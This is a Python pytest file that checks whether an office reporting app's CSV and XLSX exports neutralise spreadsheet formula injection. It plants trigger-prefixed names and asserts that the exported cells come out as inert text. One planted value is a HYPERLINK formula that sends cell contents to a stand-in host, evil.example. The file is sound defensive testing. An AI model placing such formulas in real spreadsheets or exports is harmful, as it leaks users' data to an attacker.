"""Formula injection (OWASP "CSV Injection"): staff-set names that a spreadsheet would run as formulas
come out of every export as inert text: a leading ' in CSV and XLSX, and XLSX cells typed as text."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from reception.accounts.models import User
from reception.offices.models import Desk, Outcome, Service
from tests.conftest import Api
from tests.web import reports_dataset as ds

DAY = "from=2026-11-24&to=2026-11-24"
PLANTED = {
    "service": '=HYPERLINK("https://evil.example/?x="&A1,"Довідка")',
    "desk": "+380 вікно",
    "outcome": "@SUM(1+1)",
    "user": "-A1",
    "service2": "\tЗаява",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def planted(client, db, clock):
    ds.build(db, clock)
    with db.write() as s:
        s.execute(update(Service).where(Service.code == "consult").values(name_uk=PLANTED["service"],
                                                                          name_en=PLANTED["service"]))
        s.execute(update(Desk).where(Desk.code == "1").values(name_uk=PLANTED["desk"], name_en=PLANTED["desk"]))
        s.execute(update(Outcome).where(Outcome.code == "explained").values(name_uk=PLANTED["outcome"],
                                                                            name_en=PLANTED["outcome"]))
        s.execute(update(User).where(User.username == "op1").values(username=PLANTED["user"], full_name=""))
        s.execute(update(Service).where(Service.code == "appeal").values(name_uk=PLANTED["service2"],
                                                                         name_en=PLANTED["service2"]))
    return Api(client, db, clock, "T1")


def _texts(values: list[Any]) -> list[str]:
    return [v for v in values if isinstance(v, str)]


@pytest.mark.parametrize("who", ["manager", "admin"])
def test_csv_cells_never_start_a_formula(planted: Api, who: str) -> None:
    token = planted.user("boss", [who], ["T1"] if who == "manager" else [])
    query = f"office=T1&{DAY}" if who == "manager" else DAY  # the admin's all-offices report too
    r = planted.call("GET", f"/reports/summary.csv?{query}", token)
    assert r.status_code == 200

    cells = [c for row in csv.reader(io.StringIO(r.data.decode("utf-8-sig")), delimiter=";") for c in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(TRIGGERS)], cells
    for name in (PLANTED["service"], PLANTED["desk"], PLANTED["outcome"], PLANTED["user"], PLANTED["service2"]):
        assert "'" + name in cells, name


@pytest.mark.parametrize("who", ["manager", "admin"])
def test_xlsx_text_cells_are_text_never_formulas(planted: Api, who: str) -> None:
    token = planted.user("boss", [who], ["T1"] if who == "manager" else [])
    query = f"office=T1&{DAY}" if who == "manager" else DAY
    r = planted.call("GET", f"/reports/summary.xlsx?{query}", token)
    assert r.status_code == 200
    book = load_workbook(io.BytesIO(r.data))  # formulas kept as written (not evaluated)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = _texts([c.value for c in cells])
    assert not [v for v in texts if v.lstrip(" ").startswith(TRIGGERS)], texts
    for name in (PLANTED["service"], PLANTED["desk"], PLANTED["outcome"], PLANTED["user"], PLANTED["service2"]):
        assert "'" + name in texts, name
    assert any(isinstance(c.value, int) for c in cells)  # figures stay numbers
